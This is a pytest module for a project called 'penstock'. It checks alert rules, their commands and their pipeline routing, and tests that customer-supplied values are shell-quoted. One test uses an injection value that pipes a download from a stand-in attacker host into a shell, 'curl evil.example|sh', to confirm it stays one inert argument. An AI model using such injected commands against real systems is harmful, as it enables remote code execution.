"""The command of every alert is executed where the alert was opened: a rule without one fails here.

Measured rules are executed by `test_drill.py`, those of the monitor by `tests/detection`.
"""

from __future__ import annotations

import ast
import inspect
import shlex
from importlib import resources
from pathlib import Path

import pytest

from penstock.alerts.catalog import EVENT_RULES
from penstock.alerts.measures import Measurement
from penstock.alerts.rules import evaluate, rules_of
from penstock.detection.finding import FRESHNESS_RULES, LIVE_RULES, TREND_RULES
from tests.alerts.event_scenes import SCENES
from tests.alerts.kit import declared
from tests.detection import test_fixes, test_monitor
from tests.kits.client_harness import Harness
from tests.kits.commands import perform

PACKAGE = Path(str(resources.files("penstock")))
ACTING = {"phase_untriggered", "flow_stalled", "dependency_missing", "dependency_blocking",
          "gate_cycle", "runs_stale"}  # fmt: skip
"""Rules of the monitor whose commands change something; those of tables share one command."""

WITHOUT_PIPELINE = {"audit_sink", "cadence", "channel", "outbox", "subscription", "system"}
"""Kinds of subjects that belong to no pipeline."""
KNOWN_PIPELINE = {"config", "flow", "run"}
"""Kinds of subjects whose pipeline is read when the alert is opened."""


def test_alerts_carry_their_pipeline() -> None:
    """Code that opens an alert passes its pipeline, which routes, silences and lists go by."""
    faults, calls = [], 0
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not (isinstance(node, ast.Call) and ast.unparse(node.func) == "NewAlert"):
                continue
            calls += 1
            given = {one.arg: one.value for one in node.keywords}
            kind = given["subject_kind"]
            known = isinstance(kind, ast.Constant) and kind.value in (
                WITHOUT_PIPELINE | KNOWN_PIPELINE
            )
            if "pipeline" not in given and not known:
                faults.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert calls > 25
    assert faults == []


def test_every_rule_is_executed() -> None:
    """Every rule of other code has a scene here, or is executed with the monitor's tests."""
    detected = {*LIVE_RULES, *TREND_RULES, *FRESHNESS_RULES}
    assert {*SCENES, *detected} == set(EVENT_RULES)
    fixes, watch = inspect.getsource(test_fixes), inspect.getsource(test_monitor)
    assert [rule for rule in detected if f'"{rule}"' not in fixes + watch] == []
    single = {"phase_untriggered", "flow_stalled", "dependency_missing", "runs_stale"}
    assert [rule for rule in ACTING & single if f'"{rule}"' not in fixes] == []


@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
@pytest.mark.parametrize("rule", sorted(SCENES))
def test_command(
    harness: Harness, rule: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The alert has a command, and it runs."""
    monkeypatch.setenv("PENSTOCK_AUDIT_SINK", f"parquet:{tmp_path / 'sink'}")
    SCENES[rule](harness)
    found = harness.client.alerts.list(rule=rule).items
    assert found, [one.rule for one in harness.client.alerts.list(state=None).items]
    for alert in found:
        assert alert.command is not None
        assert (alert.pipeline is None) == (alert.subject_kind in WITHOUT_PIPELINE)
        perform(harness.client, alert.command)


def test_values_are_quoted() -> None:
    """What customers can name is one word of the command, whatever quotes the rule has."""
    partition = "x; curl evil.example|sh # {customer}"
    facts = {
        "phase": "raw", "partition": partition, "quality": "0.40", "customer": "acme",
        "of_many": "",
    }  # fmt: skip
    one = Measurement(
        metric="quality_loss_percent", value=60.0, subject_kind="pipeline", name="nba", facts=facts
    )
    commands = ("", "show '{partition}' {subject}", 'show "{partition}" {unknown} {value}')
    found = []
    for command in commands:
        rules = {"low_quality": {"command": command, "medium": 10}} if command else {}
        (firing,) = evaluate(rules_of(declared({}, rules=rules)), [one], {}, 0).firing.values()
        assert partition in firing.message()
        found.append(shlex.split(firing.command()))
    assert found == [
        ["penstock", "explain", "nba", partition, "--customer", "acme"],
        ["show", partition, "nba"],
        ["show", partition, "{unknown}", "60 %"],
    ]
